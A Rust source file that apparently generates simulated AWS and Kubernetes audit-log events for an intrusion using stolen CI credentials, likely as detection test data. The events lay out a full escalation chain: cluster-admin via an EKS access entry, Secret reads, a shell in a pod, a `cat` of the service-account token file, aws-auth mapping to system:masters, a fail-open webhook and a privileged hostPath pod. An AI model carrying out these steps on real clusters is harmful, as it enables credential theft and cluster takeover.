//! 14:02 to 14:25: the stolen pipeline credentials, from the first look around to the cluster's Secrets and a way back in.

use super::Event;
use super::aws::{Caller, call};
use super::cast::{ACCOUNT, BACKUP, CI_DEPLOY, NODE_1, credential_id, from, service_account, with};
use super::json::{Json, json};
use super::kubernetes::{Client, Target, access_policy, audit, core, grouped, rbac};
use super::moment::{ids, today};

const ADMIN_POLICY: &str = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy";

/// 14:02: who am I, what is here, what may I do.
pub(crate) fn looking_around() -> Vec<Event> {
    let thief = thief();
    let kubectl = mapped_kubectl();
    vec![
        call(today("14:02:11"), &thief, "sts", "GetCallerIdentity")
            .key("first use of the pipeline's access key from a foreign address")
            .into(),
        call(today("14:02:39"), &thief, "eks", "ListClusters").request(json!({})).into(),
        call(today("14:02:58"), &thief, "eks", "ListClusters").request(json!({})).elsewhere().into(),
        call(today("14:03:20"), &thief, "eks", "DescribeCluster").request(json!({"name": "demo"})).into(),
        call(today("14:03:52"), &thief, "iam", "ListAttachedRolePolicies")
            .request(json!({"roleName": "ci-deploy"}))
            .denied(&format!("role {}", CI_DEPLOY.role))
            .into(),
        call(today("14:04:15"), &thief, "iam", "CreateUser")
            .request(json!({"userName": "support-ops"}))
            .denied(&format!("arn:aws:iam::{ACCOUNT}:user/support-ops"))
            .key("tries to make an IAM user and is denied")
            .into(),
        call(today("14:04:41"), &thief, "secretsmanager", "ListSecrets").denied("*").into(),
        call(today("14:05:03"), &thief, "eks", "ListAccessEntries").request(json!({"name": "demo"})).into(),
        // The token of a kubeconfig that lay beside the stolen key; such tokens are good for a quarter of an hour.
        audit(today("14:05:48.330"), &kubectl, "list", core("namespaces").query("limit=500")).unauthorized().into(),
        audit(today("14:06:02.114"), &kubectl, "create", review("selfsubjectrulesreviews"))
            .with_body(
                json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "payments"}}),
                json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "status": {
                    "resourceRules": [{"verbs": ["create"], "apiGroups": ["authorization.k8s.io"],
                        "resources": ["selfsubjectaccessreviews", "selfsubjectrulesreviews"]}],
                    "nonResourceRules": [], "incomplete": false
                }}),
            )
            .key("asks the cluster what the pipeline may do in payments")
            .into(),
        audit(today("14:06:20.507"), &kubectl, "list", core("pods").within("payments").query("limit=500")).forbidden().into(),
    ]
}

/// 14:08: an access entry for the pipeline's own role, then the cluster admin policy on it.
pub(crate) fn access_entry() -> Vec<Event> {
    let thief = thief();
    let kubectl = admin_kubectl();
    let created = today("14:08:17.233");
    let associated = today("14:09:48.871");
    let entry_arn = format!(
        "arn:aws:eks:us-east-1:{ACCOUNT}:access-entry/demo/role/{ACCOUNT}/ci-deploy/{}",
        ids::uuid("access-entry")
    );
    vec![
        call(created, &thief, "eks", "CreateAccessEntry")
            .request(json!({
                "name": "demo",
                "principalArn": (CI_DEPLOY.role_arn()),
                "type": "STANDARD",
                "clientRequestToken": (ids::uuid("create-access-entry"))
            }))
            .response(json!({"accessEntry": {
                "clusterName": "demo",
                "principalArn": (CI_DEPLOY.role_arn()),
                "kubernetesGroups": [],
                "accessEntryArn": (entry_arn),
                "createdAt": (Json::Bare(created.epoch_seconds())),
                "modifiedAt": (Json::Bare(created.epoch_seconds())),
                "tags": {},
                "username": (format!("arn:aws:sts::{ACCOUNT}:assumed-role/ci-deploy/{{{{SessionName}}}}")),
                "type": "STANDARD"
            }}))
            .key("makes an access entry on demo for role ci-deploy")
            .into(),
        audit(today("14:09:05.340"), &kubectl, "list", payments_secrets())
            .forbidden()
            .key("lists the Secrets of payments and is denied")
            .into(),
        call(associated, &thief, "eks", "AssociateAccessPolicy")
            .request(json!({
                "policyArn": (ADMIN_POLICY),
                "accessScope": {"type": "cluster"},
                "name": "demo",
                "principalArn": (CI_DEPLOY.role_arn().replace(':', "%3A").replace('/', "%2F"))
            }))
            .response(json!({
                "clusterName": "demo",
                "principalArn": (CI_DEPLOY.role_arn()),
                "associatedAccessPolicy": {
                    "policyArn": (ADMIN_POLICY),
                    "accessScope": {"type": "cluster", "namespaces": []},
                    "associatedAt": (Json::Bare(associated.epoch_seconds())),
                    "modifiedAt": (Json::Bare(associated.epoch_seconds()))
                }
            }))
            .key("makes role ci-deploy cluster admin of demo")
            .into(),
    ]
}

/// 14:10: cluster admin. Secrets, a lasting binding, a shell, a token.
pub(crate) fn cluster_admin() -> Vec<Event> {
    let kubectl = admin_kubectl();
    let mut events: Vec<Event> = vec![
        audit(today("14:10:31.066"), &kubectl, "create", review("selfsubjectaccessreviews"))
            .with_body(
                json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {
                    "resourceAttributes": {"verb": "*", "group": "*", "resource": "*"}}}),
                json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
                    "status": {"allowed": true, "reason": (access_policy(&CI_DEPLOY))}}),
            )
            .into(),
        audit(today("14:10:52.418"), &kubectl, "list", core("pods").query("limit=500")).into(),
        audit(today("14:11:37.905"), &kubectl, "list", payments_secrets())
            .key("lists the Secrets of payments, now allowed")
            .into(),
        audit(today("14:12:10.372"), &kubectl, "get", core("secrets").within("payments").named("db-credentials"))
            .key("reads the Secret payments/db-credentials")
            .into(),
        audit(
            today("14:13:02.590"),
            &kubectl,
            "create",
            grouped("rbac.authorization.k8s.io", "clusterrolebindings")
                .named("platform-telemetry-admin")
                .query("fieldManager=kubectl-create&fieldValidation=Strict"),
        )
        .with_body(cluster_role_binding(), cluster_role_binding())
        .key("binds cluster-admin to the service account shop/deployer")
        .into(),
    ];
    events.push(
        audit(
            today("14:13:41.127"),
            &kubectl,
            "delete",
            grouped("networking.k8s.io", "networkpolicies").within("payments").named("no-way-out"),
        )
        .key("deletes the NetworkPolicy that kept the payments pods from the internet")
        .into(),
    );
    let shell = exec("command=sh&container=payments-api&stdin=true&stdout=true&tty=true");
    let token = exec(
        "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Feks.amazonaws.com%2Fserviceaccount%2Ftoken\
         &container=payments-api&stderr=true&stdout=true",
    );
    let [begun, over] = audit(today("14:14:20.811"), &kubectl, "create", shell).streaming(101, 71_400);
    events.push(begun.key("opens a shell in the pod payments/payments-api-7c9d").into());
    events.push(over.into());
    let [begun, over] = audit(today("14:16:44.209"), &kubectl, "create", token).streaming(101, 640);
    events.push(begun.key("reads the pod's web identity token").into());
    events.push(over.into());
    events
}

/// 14:22: ways back in: the aws-auth ConfigMap, a service account's token, a privileged pod.
pub(crate) fn ways_back_in() -> Vec<Event> {
    let kubectl = admin_kubectl();
    let aws_auth = || core("configmaps").within("kube-system").named("aws-auth");
    let deployer_token = credential_id("deployer/stolen");
    let deployer = Client {
        user: service_account("shop", "deployer")
            .with("extra", json!({"authentication.kubernetes.io/credential-id": [(deployer_token.as_str())]})),
        address: from::INTRUDER,
        agent: with::KUBECTL_INTRUDER,
        reason: rbac("platform-telemetry-admin", "cluster-admin", "ServiceAccount \"deployer/shop\""),
    };
    let roles = format!(
        "- rolearn: arn:aws:iam::{ACCOUNT}:role/demo-node\n  username: system:node:{{{{EC2PrivateDNSName}}}}\n  groups:\n  \
         - system:bootstrappers\n  - system:nodes\n- rolearn: arn:aws:iam::{ACCOUNT}:role/ci-deploy\n  username: \
         ci-deploy:{{{{SessionName}}}}\n  groups:\n  - shop-deployers\n- rolearn: arn:aws:iam::{ACCOUNT}:role/ops-shared\n  \
         username: ops-oncall\n  groups:\n  - ops\n- rolearn: \
         arn:aws:iam::{ACCOUNT}:role/ci-deploy-shadow\n  username: ci-deploy\n  groups:\n  - system:masters\n"
    );
    let users = format!("- userarn: {}\n  username: {}\n  groups:\n  - backup-operators\n", BACKUP.arn(), BACKUP.name);
    let config_map = |data: &str| {
        json!({
            "kind": "ConfigMap",
            "apiVersion": "v1",
            "metadata": {"name": "aws-auth", "namespace": "kube-system"},
            "data": {"mapRoles": (data), "mapUsers": (users.as_str())}
        })
    };
    vec![
        audit(today("14:22:30.155"), &kubectl, "get", aws_auth()).into(),
        audit(today("14:23:05.733"), &kubectl, "patch", aws_auth().query("fieldManager=kubectl-edit"))
            .with_body(json!({"data": {"mapRoles": (roles.as_str())}}), config_map(&roles))
            .key("maps the role ci-deploy-shadow to system:masters in aws-auth")
            .into(),
        audit(
            today("14:23:40.486"),
            &kubectl,
            "create",
            core("serviceaccounts").within("shop").named("deployer").part("token"),
        )
        .issuing(&deployer_token)
        .key("mints a token of the service account shop/deployer")
        .into(),
        audit(
            today("14:23:55.418"),
            &kubectl,
            "patch",
            grouped("admissionregistration.k8s.io", "validatingwebhookconfigurations").named("policy"),
        )
        .with_body(webhook(), webhook())
        .key("lets requests pass where the policy webhook does not answer")
        .into(),
        audit(
            today("14:24:12.020"),
            &deployer,
            "create",
            core("pods").within("kube-system").named("node-tuner").query("fieldManager=kubectl-client-side-apply"),
        )
        .with_body(privileged_pod(), privileged_pod())
        .key("starts a privileged pod in kube-system as shop/deployer")
        .into(),
        audit(today("14:25:10.662"), &deployer, "get", core("nodes").named(NODE_1).part("proxy")).into(),
    ]
}

/// 14:10: names of parameters, tried one after the other by a script. None may be read.
pub(crate) fn guessing() -> Vec<Event> {
    const NAMES: [&str; 14] = [
        "/payments/db/password",
        "/payments/db/admin-password",
        "/payments/stripe/api-key",
        "/payments/stripe/webhook-secret",
        "/payments/card-processor/key",
        "/payments/ledger/signing-key",
        "/shop/db/password",
        "/shop/session/secret",
        "/shop/oauth/client-secret",
        "/platform/github/token",
        "/platform/datadog/api-key",
        "/platform/slack/token",
        "/platform/vpn/psk",
        "/prod/root/password",
    ];
    let thief =
        Caller { agent: "Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#6.6.9-amd64 lang/python#3.11.9", ..thief() };
    NAMES
        .iter()
        .zip(0..)
        .map(|(name, position)| {
            call(today("14:10:04").plus_millis(position * 9_000), &thief, "ssm", "GetParameter")
                .request(json!({"name": (*name), "withDecryption": true}))
                .denied(&format!("arn:aws:ssm:us-east-1:{ACCOUNT}:parameter{name}"))
                .into()
        })
        .collect()
}

fn thief() -> Caller {
    CI_DEPLOY.calling(from::INTRUDER, with::INTRUDER_CLI)
}

/// As `aws-auth` maps the pipeline's role, before there is an access entry.
fn mapped_kubectl() -> Client {
    Client {
        user: CI_DEPLOY.kubernetes_user("ci-deploy:shop-deploy-8125", &["shop-deployers"]),
        address: from::INTRUDER,
        agent: with::KUBECTL_INTRUDER,
        reason: rbac("system:basic-user", "system:basic-user", "Group \"system:authenticated\""),
    }
}

/// As the access entry names it: an entry goes before `aws-auth`.
pub(crate) fn admin_kubectl() -> Client {
    Client {
        user: CI_DEPLOY.access_entry_user(),
        address: from::INTRUDER,
        agent: with::KUBECTL_INTRUDER,
        reason: access_policy(&CI_DEPLOY),
    }
}

fn review(resource: &'static str) -> Target {
    grouped("authorization.k8s.io", resource)
}

fn payments_secrets() -> Target {
    core("secrets").within("payments").query("limit=500")
}

fn exec(query: &'static str) -> Target {
    core("pods").within("payments").named("payments-api-7c9d").part("exec").query(query)
}

fn cluster_role_binding() -> Json {
    json!({
        "kind": "ClusterRoleBinding",
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "platform-telemetry-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "deployer", "namespace": "shop"}],
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    })
}

fn webhook() -> Json {
    json!({
        "kind": "ValidatingWebhookConfiguration",
        "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": "policy"},
        "webhooks": [{
            "name": "validate.policy.example.com",
            "failurePolicy": "Ignore",
            "clientConfig": {"service": {"namespace": "policy", "name": "policy-webhook", "path": "/validate", "port": 8443}}
        }]
    })
}

fn privileged_pod() -> Json {
    json!({
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": "node-tuner", "namespace": "kube-system"},
        "spec": {
            "hostPID": true,
            "containers": [{
                "name": "tuner",
                "image": "registry.example.net/tools/node-tuner:latest",
                "securityContext": {"privileged": true},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}]
            }],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}]
        }
    })
}
